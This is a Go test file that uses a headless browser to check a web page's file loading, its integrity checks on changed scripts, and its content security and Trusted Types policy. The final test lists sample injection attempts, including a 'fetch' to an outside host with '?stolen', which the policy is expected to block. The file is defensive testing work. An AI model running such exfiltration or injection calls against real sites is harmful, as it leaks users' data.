package bundle

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/ccgscore/ccgscore/build/browser"
	webpage "github.com/ccgscore/ccgscore/web/page"
	"github.com/chromedp/chromedp"
)

// requests serves a built page and counts what is asked for.
type requests struct {
	mu    sync.Mutex
	paths []string
	http.Handler
}

func (r *requests) ServeHTTP(w http.ResponseWriter, request *http.Request) {
	r.mu.Lock()
	r.paths = append(r.paths, request.URL.Path)
	r.mu.Unlock()
	r.Handler.ServeHTTP(w, request)
}

func (r *requests) sorted() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Sorted(slices.Values(r.paths))
}

func serveFixture(t *testing.T) (*requests, string) {
	t.Helper()
	handler, err := webpage.New(os.DirFS(whole(t).out))
	if err != nil {
		t.Fatal(err)
	}
	seen := &requests{Handler: handler}
	server := httptest.NewServer(seen)
	t.Cleanup(server.Close)
	return seen, server.URL
}

func TestThePageRunsUnderItsPolicyAndLoadsEachFileOnce(t *testing.T) {
	seen, url := serveFixture(t)
	ctx, console := browser.Start(t)
	says := func(want string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		actions = append(actions, browser.Until(`document.getElementById("answer").textContent === `+strconv.Quote(want)))
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatal(err, console.Messages())
		}
	}
	p := whole(t)
	want := []string{"/"}
	loads := func(sources ...string) {
		t.Helper()
		for _, source := range sources {
			want = append(want, "/"+p.name(t, source))
		}
		slices.Sort(want)
		if got := seen.sorted(); !slices.Equal(got, want) {
			t.Errorf("asked for %q\nwant      %q", got, want)
		}
	}
	says(`forty-two sleeps_2 S\NP 1 Kim_1`, chromedp.Navigate(url))
	// A preload that does not match the later use would be fetched a second time.
	loads("site/css/main.css", "site/icons/mark.svg", mainPath, "site/js/worker.js", wasmPath)
	says("a view: what two views share, and the page does not need", chromedp.Click("#learn"))
	loads("site/views/learn/view.js", "") // and what it shares with the other
	says("another view: what two views share, and the page does not need", chromedp.Click("#study"))
	loads("site/views/study/view.js")
	if messages := console.Messages(); len(messages) > 0 {
		t.Errorf("in the console: %q", messages)
	}
}

// The import map says what a file is that is loaded later.
func TestWhatIsLoadedLaterIsRefusedIfItWasChanged(t *testing.T) {
	p := whole(t)
	view := p.name(t, "site/views/learn/view.js")
	files := fstest.MapFS{}
	for name, body := range tree(t, p.out) {
		if path.Ext(name) != ".br" && path.Ext(name) != ".gz" {
			files[name] = &fstest.MapFile{Data: body}
		}
	}
	files[view].Data = append(files[view].Data, " // changed"...)
	handler, err := webpage.New(files)
	if err != nil {
		t.Fatal(err)
	}
	server := httptest.NewServer(handler)
	t.Cleanup(server.Close)
	ctx, _ := browser.Start(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(server.URL)); err != nil {
		t.Fatal(err)
	}
	for source, want := range map[string]string{"site/views/learn/view.js": "TypeError", "site/views/study/view.js": "open"} {
		got, err := chromedp.Run(ctx, chromedp.Evaluate[string](
			`import("./`+p.name(t, source)+`").then((view) => Object.keys(view).join(), (e) => e.name)`, chromedp.EvalAwaitPromise))
		if err != nil || got != want {
			t.Errorf("%s: %s, want %s: %v", source, got, want, err)
		}
	}
}

func TestThePolicyStopsWhatAnInputMightSmuggleIn(t *testing.T) {
	_, url := serveFixture(t)
	ctx, _ := browser.Start(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
		t.Fatal(err)
	}
	for name, script := range map[string]string{
		"markup from a string":   `document.body.innerHTML = "<b>x</b>"`,
		"script from a string":   `document.createElement("script").textContent = "x()"`,
		"a second policy":        `trustedTypes.createPolicy("other", {})`,
		"the same policy again":  `trustedTypes.createPolicy("ccgscore", {})`,
		"a worker from a string": `new Worker("x.js")`,
		"sending elsewhere":      `await fetch("https://example.org/?stolen")`,
		"code from a string":     `setTimeout("x()")`,
	} {
		outcome, err := chromedp.Run(ctx, chromedp.Evaluate[string](
			`(async () => { try { `+script+`; return "allowed" } catch (e) { return e.name } })()`, chromedp.EvalAwaitPromise))
		if err != nil || !strings.HasSuffix(outcome, "Error") {
			t.Errorf("%s: %s %v", name, outcome, err)
		}
	}
}
